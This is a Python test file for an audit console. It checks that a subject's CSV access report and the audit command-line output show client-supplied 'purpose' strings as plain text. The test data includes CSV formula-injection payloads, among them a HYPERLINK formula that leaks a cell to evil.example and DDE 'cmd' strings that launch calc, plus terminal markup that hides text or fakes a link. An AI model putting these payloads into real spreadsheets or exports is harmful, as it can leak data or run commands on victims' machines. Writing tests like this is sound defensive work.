"""Fourth review: the auditor's console and its exports.

Anyone who can reach a guarded service can put text into the audit trail: a
refused request is recorded with the purpose it declared (cut to 200 characters),
whether or not it carried a token. The subject's access report reads those events
back and is opened in a spreadsheet by the privacy team, or sent to the data
subject; a cell that a spreadsheet reads as a formula (``=``, ``+``, ``-``, ``@``,
a tab or a carriage return first) must not come out of it as one.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest
from clikit import clean_guard_env, run

from guard.audit import wait_indexed
from middleware.console import create_console
from tests.console.consolekit import (
    AUDITOR,
    SUBJECT,
    UvicornThread,
    console_settings,
    example_service,
    token,
)

FORMULAS = ('=HYPERLINK("https://evil.example/?"&A2,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0")
STARTS = ("=", "+", "-", "@", "\t", "\r")
MARKUP = ("[/x]", "[link=https://evil.example]relationship.management[/link]",
          "[black on black]hidden")

__all__ = ["clean_guard_env"]  # the command line runs in an empty folder, no GUARD_* variable


def test_the_subject_report_csv_holds_no_formula_a_client_wrote(tmp_path: Path) -> None:
    settings = console_settings(tmp_path)
    with example_service(settings) as service:
        for formula in FORMULAS:  # no token: refused, recorded with the purpose declared
            answer = service.get(f"/customers/{SUBJECT}", headers={"x-purpose": formula})
            assert answer.status_code in (401, 403)
        allowed = service.get(f"/customers/{SUBJECT}", headers={
            "authorization": f"Bearer {token(settings, 'svc:crm')}",
            "x-purpose": "relationship.management"})
        assert allowed.status_code == 200
    with UvicornThread(create_console(settings)) as server, \
            httpx.Client(base_url=server.url, timeout=30) as client:
        assert client.post("/signin", data={"token": token(settings, AUDITOR)}).status_code == 303
        location = client.post("/subject", data={"subject": SUBJECT}).headers["location"]
        report = client.get(location.replace("?", "/report.csv?"))
    assert report.status_code == 200, report.text
    rows = list(csv.reader(io.StringIO(report.text)))
    purposes = [row[rows[0].index("purpose")] for row in rows[1:]]
    assert "relationship.management" in purposes
    assert len(purposes) >= 1 + len(FORMULAS)  # every refusal is in the report
    for row in rows:
        for cell in row:
            assert not cell.startswith(STARTS), f"a formula in the report: {cell!r}"
    for formula in FORMULAS:  # still there, as text
        assert any(formula.strip() in cell for row in rows for cell in row)


def test_the_audit_commands_show_what_a_client_wrote_as_text(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    settings = console_settings(tmp_path)
    with example_service(settings) as service:
        for purpose in (*MARKUP, *FORMULAS):  # no token: refused, recorded as declared
            answer = service.get(f"/customers/{SUBJECT}", headers={"x-purpose": purpose})
            assert answer.status_code in (401, 403)
    wait_indexed(settings.audit)
    store = ("--store", settings.audit.store)
    for command in (("audit", "stats", *store), ("audit", "query", "--limit", "50", *store)):
        code, out, err = run(monkeypatch, capsys, *command)
        assert code == 0, err
        assert "MarkupError" not in err
        for purpose in MARKUP[1:]:  # shown as written, not as a link or a style
            assert purpose[:24] in out, (command, out)
    code, out, err = run(monkeypatch, capsys, "audit", "query", "--csv", "--limit", "50", *store)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) > len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(STARTS), f"a formula in the query's CSV: {cell!r}"
